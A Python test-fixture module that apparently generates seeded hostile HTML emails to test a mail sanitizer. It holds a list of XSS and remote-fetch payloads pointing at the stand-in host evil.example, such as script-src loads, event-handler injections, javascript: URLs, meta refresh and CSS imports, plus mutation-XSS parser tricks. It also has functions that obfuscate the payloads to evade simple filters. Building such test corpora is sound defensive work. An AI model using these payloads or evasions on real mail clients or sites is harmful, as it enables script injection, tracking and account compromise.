"""Mails that try to run a script, fetch something, or lead their reader away. Seeded.

Every one uses the host ``evil.example``; a script that ran would call ``parent.hit()``.
"""

import random

_EVIL = "https://evil.example"
_RUN = "parent.hit(1)"
_ACTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_EVIL}/a.js></script>",
    f"<img src={_EVIL}/p.gif onerror={_RUN}>",
    f"<img srcset='{_EVIL}/p.gif 2x' onload={_RUN}>",
    f"<img src=x onerror={_RUN}>",
    f"<picture><source srcset={_EVIL}/s.png><img src=y></picture>",
    f"<svg onload={_RUN}><image href={_EVIL}/i.svg /><use href={_EVIL}/u#a /></svg>",
    f"<svg><script>{_RUN}</script><animate onbegin={_RUN} attributeName=x dur=1s /></svg>",
    f"<svg><style>@import '{_EVIL}/s.css';</style></svg>",
    f"<iframe src={_EVIL}/></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<object data={_EVIL}/o></object><embed src={_EVIL}/e>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<link rel=stylesheet href={_EVIL}/c.css>",
    f"<link rel=prefetch href={_EVIL}/f><link rel=preload as=image href={_EVIL}/l>",
    f"<link rel=icon href={_EVIL}/i><link rel=manifest href={_EVIL}/m>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href={_EVIL}/><img src=relative.gif>",
    f"<form action={_EVIL}/ id=f><input autofocus onfocus={_RUN}></form>",
    f"<input type=image src={_EVIL}/b.gif><button onfocus={_RUN} autofocus>x</button>",
    f"<video src={_EVIL}/v poster={_EVIL}/p onerror={_RUN}></video>",
    f"<audio autoplay src={_EVIL}/a onerror={_RUN}></audio>",
    f"<body background={_EVIL}/bg onload={_RUN}>",
    f"<table background={_EVIL}/t><tr><td background={_EVIL}/d>x</table>",
    f"<style>@import url({_EVIL}/i.css);*{{background:url({_EVIL}/u)}}</style><p>x",
    f"<style>@font-face{{font-family:e;src:url({_EVIL}/f)}}p{{font-family:e}}</style><p>x",
    f"<p style='background:url({_EVIL}/q);list-style:url({_EVIL}/r)'>x</p>",
    f"<p style='content:url({_EVIL}/s);cursor:url({_EVIL}/t),auto'>x</p>",
    f"<details open ontoggle={_RUN}>x</details><marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}' ping={_EVIL}/>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<select><style></select><img src=x onerror={_RUN}></style>",
    f"<!--><img src=x onerror={_RUN}>--><![CDATA[<script>{_RUN}</script>]]>",
    f"<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script></xml>",
    f"<textarea></textarea><script>{_RUN}</script>",
    f"<title></title><img src=x onerror={_RUN}>",
)  # fmt: skip
_AROUND = (
    "div span p b i font table tr td ul li blockquote center pre a h1 form select "
    "noscript title textarea style xmp template button"
)
_FOREIGN = (
    "<svg>{}</svg>",
    "<math>{}</math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><title>{}</title></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<math><mtext>{}</mtext></math>",
    "<math><mi><svg>{}</svg></mi></math>",
)


def hostile(dice: random.Random) -> str:
    """One mail: one to three tries, nested, in odd namespaces, oddly written."""
    html = "".join(dice.choice(_ACTS) for _ in range(dice.randint(1, 3)))
    for _ in range(dice.randint(0, 3)):
        html = dice.choice((_nested, _foreign, _odd, _torn))(dice, html)
    return html


def _nested(dice: random.Random, html: str) -> str:
    names = [dice.choice(_AROUND.split()) for _ in range(dice.randint(1, 40))]
    ends = [f"</{name}>" for name in reversed(names) if dice.random() < 0.8]
    return "".join(f"<{name}>" for name in names) + html + "".join(ends)


def _foreign(dice: random.Random, html: str) -> str:
    return dice.choice(_FOREIGN).format(html)


def _odd(dice: random.Random, html: str) -> str:
    """Written so that a simple filter does not know it again; browsers still do."""
    change = dice.choice(
        (
            lambda text: text.replace("<script", "<ScRiPt\t"),
            lambda text: text.replace(" on", "/on"),
            lambda text: text.replace(" src=", "\nsRc\n=\n"),
            lambda text: text.replace("javascript:", "java&#x09;scr&#105;pt&colon;"),
            lambda text: text.replace("https://", "//"),
            lambda text: text.replace("https:", "&#104;ttps:"),
            lambda text: text.replace("https://evil", "https:\\\\evil"),
            lambda text: text.replace("<", "<\0", 1),
            lambda text: text.replace("parent", "\\u0070arent"),
            lambda text: text.replace("=", "=\f"),
            lambda text: "\ufeff" + text.replace(">", "/>"),
        )
    )
    return change(html)


def _torn(dice: random.Random, html: str) -> str:
    """In front of it something that never ends properly."""
    begin = ("<!--", '<p title="', "<p title='", "<style>", "</p", "<![CDATA[", "<x ",
             "<textarea>", "--><", "\"'>", '<a href="x', "<table><tr>")  # fmt: skip
    return dice.choice(begin) + html
